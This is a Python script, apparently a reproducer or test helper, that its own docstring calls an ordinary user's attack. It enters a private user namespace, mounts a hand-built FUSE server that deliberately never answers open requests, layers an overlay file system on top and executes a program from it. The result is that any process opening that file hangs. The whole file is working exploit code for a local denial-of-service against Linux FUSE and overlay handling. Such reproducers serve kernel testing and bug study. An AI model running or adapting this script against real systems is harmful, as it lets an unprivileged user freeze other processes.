"""An ordinary user's attack: a program on an overlay above a FUSE file system that does not answer its open.

Runs as that user: hostile_fuse.py DEVICE DIRECTORY. Prints "ready" when all is mounted in a user namespace of its own,
or why that is not possible; executes the program when a line comes in, prints "open" when somebody opens it, and never ends by itself.
"""

import ctypes
import os
import struct
import sys

CLONE_NEWNS, CLONE_NEWUSER = 0x00020000, 0x10000000
MS_REC, MS_PRIVATE = 16384, 1 << 18
DIRECTORY, PROGRAM = 0o40755, 0o100755
ROOT_NODE, PROGRAM_NODE = 1, 2
NOT_FOUND, NO_SUCH_CALL = -2, -38
LOOKUP, FORGET, GETATTR, OPEN, STATFS, INIT, OPENDIR, BATCH_FORGET = 1, 2, 3, 14, 17, 26, 27, 42

LIBC = ctypes.CDLL(None, use_errno=True)


def call(result):
    if result != 0:
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number))


def mount(source, target, kind, options):
    call(LIBC.mount(source.encode(), target.encode(), kind.encode(), 0, options.encode()))


def attributes(node):
    mode = DIRECTORY if node == ROOT_NODE else PROGRAM
    return struct.pack("<6Q10I", node, 100, 1, 0, 0, 0, 0, 0, 0, mode, 1, 0, 0, 0, 4096, 0)


def answer(opcode, node, body):
    """(error, bytes) of a request; None: no answer."""
    if opcode == OPEN:  # the attack: it is never answered
        print("open", flush=True)
    if opcode in (FORGET, BATCH_FORGET, OPEN):
        return None
    if opcode == INIT:
        return 0, struct.pack("<4I2H2I2H8I", 7, 31, 0, 0, 0, 0, 4096, 1, 0, 0, *[0] * 8)
    if opcode == LOOKUP:
        found = body.split(b"\0")[0] == b"program"
        return (0, struct.pack("<4Q2I", PROGRAM_NODE, 0, 1000, 1000, 0, 0) + attributes(PROGRAM_NODE)) if found \
            else (NOT_FOUND, b"")
    if opcode == GETATTR:
        return 0, struct.pack("<QII", 1000, 0, 0) + attributes(node)
    if opcode == OPENDIR:
        return 0, bytes(16)
    if opcode == STATFS:
        return 0, struct.pack("<5Q10I", 1, 0, 0, 1, 0, 4096, 255, 4096, 0, *[0] * 6)
    return NO_SUCH_CALL, b""


def serve(device):
    while True:
        request = os.read(device, 1 << 17)
        _, opcode, unique, node = struct.unpack_from("<IIQQ", request)
        found = answer(opcode, node, request[40:])
        if found:
            error, body = found
            os.write(device, struct.pack("<IiQ", 16 + len(body), error, unique) + body)


def enter_namespace():
    user, group = os.geteuid(), os.getegid()
    call(LIBC.unshare(CLONE_NEWUSER | CLONE_NEWNS))
    for name, text in (("setgroups", "deny"), ("uid_map", f"0 {user} 1"), ("gid_map", f"0 {group} 1")):
        with open(f"/proc/self/{name}", "w") as file:
            file.write(text)
    call(LIBC.mount(None, b"/", None, MS_REC | MS_PRIVATE, None))


def main():
    node, directory = sys.argv[1:]
    fuse, other, overlay = (os.path.join(directory, name) for name in ("fuse", "other", "overlay"))
    for path in (fuse, other, overlay):
        os.mkdir(path)
    try:
        enter_namespace()
        device = os.open(node, os.O_RDWR)
        mount("fuse", fuse, "fuse", f"fd={device},rootmode=40000,user_id=0,group_id=0")
        if os.fork() == 0:
            serve(device)
        os.close(device)  # when that process is killed all who wait for its answers are free
        mount("overlay", overlay, "overlay", f"lowerdir={fuse}:{other}")
        os.stat(os.path.join(overlay, "program"))
    except OSError as error:
        print(error, flush=True)
        return
    print("ready", flush=True)
    sys.stdin.readline()
    program = os.path.join(overlay, "program")
    os.execv(program, [program])


main()
